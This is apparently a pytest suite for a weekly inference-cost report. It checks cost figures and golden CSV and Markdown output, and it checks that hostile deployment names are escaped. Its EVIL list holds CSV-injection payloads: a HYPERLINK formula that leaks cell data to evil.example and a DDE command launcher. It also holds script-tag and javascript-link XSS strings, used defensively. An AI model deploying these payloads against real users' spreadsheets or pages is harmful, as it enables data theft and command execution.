"""Weekly report: golden CSV and Markdown from a fixed store, injection-safe names in every format."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from costs.catalogue import load_catalogue
from costs.errors import ReportInputError
from costs.report import (
    FORMULA_TRIGGERS,
    IsoWeek,
    csv_text,
    neutralize,
    render_csv,
    render_detail_csv,
    render_html,
    render_markdown,
)
from inferwatch.store import Store
from readmodels.costs import load_weekly_report
from tests.costs.builders import T0, steady
from tests.costs.report_store import fixed_store, write

GOLDEN = Path(__file__).parent / "golden"
CAT = load_catalogue()
W47 = IsoWeek.parse("2026-W47")
EVIL = ['=HYPERLINK("http://evil.example/?q="&A1,"click")', "<script>alert(1)</script>",
        "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "[x](javascript:alert(1))"]


@pytest.fixture(scope="module")
def report(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    store = fixed_store(tmp_path_factory.mktemp("store") / "fixed.db")
    yield load_weekly_report(store, W47, CAT, step_s=3600)
    store.dispose()


def _golden(name: str, text: str) -> None:
    path = GOLDEN / name
    if not path.exists():  # first run writes the golden file; review it before committing
        path.write_text(text, encoding="utf-8")
    assert text == path.read_text(encoding="utf-8")


def test_iso_week() -> None:
    assert W47.start.isoformat() == "2026-11-16T00:00:00+00:00" and W47.end.isoformat() == "2026-11-23T00:00:00+00:00"
    assert W47.previous().label == "2026-W46" and IsoWeek.parse("2027-W01").previous().label == "2026-W53"
    for bad in ("2026-47", "2026-W60", "W47"):
        with pytest.raises(ReportInputError) as info:
            IsoWeek.parse(bad)
        assert info.value.field == "week"


def test_report_numbers(report) -> None:  # type: ignore[no-untyped-def]
    rows = {r.name: r for r in report.rows}
    assert set(rows) == {"scorer", "scorer-arm", "api"}
    scorer = rows["scorer"]
    # PC 10 x 1 GB x 168 h; 3,600 x 168 invocations of 50 ms on PC; requests
    warm = 10 * 168 * 3600 * 0.0000041667
    duration = 3600 * 168 * 0.05 * 0.0000097222
    requests = 3600 * 168 * 0.2e-6
    assert scorer.cost_usd == pytest.approx(warm + duration + requests)
    assert scorer.cost.idle_usd == pytest.approx(warm * 0.88)
    assert scorer.predictions == 7200 * 168  # batched: two rows per invocation
    assert scorer.cost_per_1k_usd == pytest.approx(1000 * scorer.cost_usd / (7200 * 168))
    assert scorer.billed_usd == pytest.approx(7 * 4.2) and scorer.gap_usd == pytest.approx(29.4 - scorer.cost_usd)
    assert rows["scorer-arm"].status == "new" and rows["scorer-arm"].delta_pct is None
    assert rows["api"].status == "ok" and rows["api"].delta_pct == pytest.approx(0.0)
    assert "reduce it to 2" in scorer.top_advice and scorer.top_saving_usd > 0
    assert len(report.daily) == 7 + 3 + 7


def test_golden_csv(report) -> None:  # type: ignore[no-untyped-def]
    _golden("weekly.csv", render_csv(report))


def test_golden_markdown(report) -> None:  # type: ignore[no-untyped-def]
    _golden("weekly.md", render_markdown(report))


def test_detail_csv_adds_up_to_the_report_per_component(report) -> None:  # type: ignore[no-untyped-def]
    rows = list(csv.DictReader(io.StringIO(render_detail_csv(report))))
    components = ("request", "compute", "init", "restore", "warm_capacity")
    assert len(rows) == len(components) * len(report.daily)
    assert {r["cost_component"] for r in rows} == set(components)
    total = sum(float(r["estimated_cost_usd"]) for r in rows)
    assert total == pytest.approx(report.total_usd, rel=1e-5)


# Columns FOCUS 1.0 requires on every row that an estimate from metrics cannot honestly fill: the
# billing account, the invoice issuer, and the cost invoiced.
FOCUS_BILLING_COLUMNS = {"BillingAccountId", "InvoiceIssuer", "InvoiceIssuerName", "BilledCost", "EffectiveCost"}


def test_detail_csv_does_not_pass_itself_off_as_focus_billing_data(report) -> None:  # type: ignore[no-untyped-def]
    header = next(csv.reader(io.StringIO(render_detail_csv(report))))
    assert not FOCUS_BILLING_COLUMNS & set(header) and "estimated_cost_usd" in header
    assert all(name == name.lower() for name in header)  # the product's own snake_case columns, as the summary's


def test_empty_store_gives_an_explicit_empty_report(tmp_path: Path) -> None:
    store = Store.open(f"sqlite:///{tmp_path / 'empty.db'}")
    report = load_weekly_report(store, W47, CAT, step_s=3600)
    assert report.is_empty
    assert "No deployment had metrics" in render_markdown(report)
    assert 'id="empty"' in render_html(report)
    assert render_csv(report).splitlines()[1].startswith("2026-W47,TOTAL,")
    store.dispose()


@pytest.fixture(scope="module")
def evil_report(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    from inferwatch.schema import Deployment
    store = Store.open(f"sqlite:///{tmp_path_factory.mktemp('evil') / 'evil.db'}")
    deps = [Deployment(id=f"local:local:{name}", provider="local", region="local", name=name, service=name,
                       model_version=name, memory_mb=512) for name in EVIL]
    points = [p for d in deps for p in steady(d.id, {"invocations_count": 100, "duration_sum_ms": 2000.0,
                                                     "memory_max_used_mb": 100}, hours=48, start=T0)]
    write(store, deps, points)
    yield load_weekly_report(store, W47, CAT, step_s=3600)
    store.dispose()


def test_names_are_inert_in_csv(evil_report) -> None:  # type: ignore[no-untyped-def]
    for text in (render_csv(evil_report), render_detail_csv(evil_report)):
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(FORMULA_TRIGGERS) or _is_number(cell), cell
    summary = list(csv.DictReader(io.StringIO(render_csv(evil_report))))
    assert {r["name"] for r in summary} >= {"'" + EVIL[0], EVIL[1], "'" + EVIL[2], "'" + EVIL[3]}


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_names_are_inert_in_markdown_and_html(evil_report) -> None:  # type: ignore[no-untyped-def]
    md = render_markdown(evil_report)
    page = render_html(evil_report)
    for text in (md, page):
        assert "<script>alert" not in text and "href=\"javascript" not in text
    assert not re.search(r"(?<!\\)\]\(javascript:", md)  # the link syntax stays backslash-escaped
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert '"name":"local:local:&lt;script&gt;alert(1)' in page  # chart data is escaped for plotly
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in md


@given(st.sampled_from(FORMULA_TRIGGERS), st.text(max_size=20))
def test_neutralize_round_trips_every_trigger(trigger: str, rest: str) -> None:
    assert neutralize(trigger + rest) == "'" + trigger + rest
    guarded = csv_text(trigger + rest)
    assert guarded.startswith("'")
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerow([guarded, -12.3])
    cell, number = next(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    assert cell == guarded and number == "-12.3"


def test_neutralize_leaves_plain_text() -> None:
    assert neutralize("scorer-v1") == "scorer-v1"
